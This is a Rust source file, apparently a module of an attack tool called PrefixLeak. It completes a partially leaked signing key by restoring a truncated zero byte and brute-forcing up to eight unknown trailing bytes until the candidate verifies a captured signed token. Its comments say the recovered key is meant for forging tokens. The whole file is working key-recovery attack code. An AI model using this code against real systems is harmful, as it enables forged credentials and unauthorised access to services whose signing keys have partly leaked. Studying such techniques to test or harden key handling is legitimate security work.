// Copyright (c) 2026 Joseph Verdicchio and EvidenceOS Contributors
// SPDX-License-Identifier: Apache-2.0

use std::fmt;

use crate::config::KeyFillConfig;
use crate::error::{PrefixLeakError, PrefixLeakResult};
use crate::token::SignedToken;

/// Widest suffix the `u64` candidate counter can enumerate.
pub const MAX_UNKNOWN_BYTES: usize = 8;

/// A key that verified against the captured token. Immutable.
#[derive(Clone, PartialEq, Eq)]
pub struct RecoveredKey {
    bytes: Vec<u8>,
    candidates_tried: u64,
}

impl RecoveredKey {
    pub fn as_bytes(&self) -> &[u8] {
        &self.bytes
    }

    pub fn to_hex(&self) -> String {
        hex::encode(&self.bytes)
    }

    pub fn candidates_tried(&self) -> u64 {
        self.candidates_tried
    }

    /// Checks a caller-supplied key before it is trusted for forgery.
    pub fn verified(bytes: Vec<u8>, reference: &SignedToken) -> PrefixLeakResult<Self> {
        if !reference.verify(&bytes) {
            return Err(PrefixLeakError::SignatureMismatch(
                "key does not verify the reference token".to_string(),
            ));
        }
        Ok(Self {
            bytes,
            candidates_tried: 1,
        })
    }
}

// Never print key material through Debug.
impl fmt::Debug for RecoveredKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("RecoveredKey")
            .field("len", &self.bytes.len())
            .field("candidates_tried", &self.candidates_tried)
            .finish()
    }
}

#[derive(Debug, Clone, Copy)]
pub struct KeyCompletion {
    key_len: usize,
}

impl KeyCompletion {
    pub fn new(key_len: usize) -> PrefixLeakResult<Self> {
        if key_len == 0 {
            return Err(PrefixLeakError::InvalidArgument(
                "key_len must be > 0".to_string(),
            ));
        }
        Ok(Self { key_len })
    }

    pub fn from_config(config: &KeyFillConfig) -> PrefixLeakResult<Self> {
        Self::new(config.key_len)
    }

    pub fn key_len(&self) -> usize {
        self.key_len
    }

    /// Turns leaked bytes into a verified key of exactly `key_len` bytes.
    ///
    /// A short leak is assumed to have stopped at a zero byte: one `0x00` is
    /// restored and any remaining gap is searched exhaustively.
    pub fn complete(&self, leaked: &[u8], reference: &SignedToken) -> PrefixLeakResult<RecoveredKey> {
        if leaked.len() >= self.key_len {
            return RecoveredKey::verified(leaked[..self.key_len].to_vec(), reference);
        }

        tracing::warn!(
            missing = self.key_len - leaked.len(),
            "leaked key is short; assuming truncation at a zero byte"
        );
        let mut repaired = leaked.to_vec();
        repaired.push(0);
        let unknown = self.key_len - repaired.len();
        if unknown > 0 {
            tracing::info!(unknown, "brute-forcing remaining key bytes");
        }
        search_suffix(&repaired, unknown, reference)
    }
}

/// Appends every `unknown`-byte suffix to `prefix` in increasing big-endian
/// order and returns the first candidate that verifies `reference`.
///
/// Gaps wider than [`MAX_UNKNOWN_BYTES`] are exhausted without trying a
/// candidate.
pub fn search_suffix(
    prefix: &[u8],
    unknown: usize,
    reference: &SignedToken,
) -> PrefixLeakResult<RecoveredKey> {
    if unknown > MAX_UNKNOWN_BYTES {
        tracing::warn!(unknown, max = MAX_UNKNOWN_BYTES, "unknown suffix too wide to enumerate");
        return Err(PrefixLeakError::KeyRecoveryExhausted {
            tried: 0,
            unknown_bytes: unknown,
        });
    }
    let last = match unknown {
        0 => 0,
        MAX_UNKNOWN_BYTES => u64::MAX,
        n => (1u64 << (8 * n)) - 1,
    };

    let mut candidate = prefix.to_vec();
    candidate.resize(prefix.len() + unknown, 0);
    let mut tried = 0u64;
    for counter in 0..=last {
        candidate[prefix.len()..].copy_from_slice(&counter.to_be_bytes()[MAX_UNKNOWN_BYTES - unknown..]);
        tried = tried.saturating_add(1);
        if reference.verify(&candidate) {
            tracing::info!(tried, "key verified against captured token");
            return Ok(RecoveredKey {
                bytes: candidate,
                candidates_tried: tried,
            });
        }
    }

    Err(PrefixLeakError::KeyRecoveryExhausted {
        tried,
        unknown_bytes: unknown,
    })
}
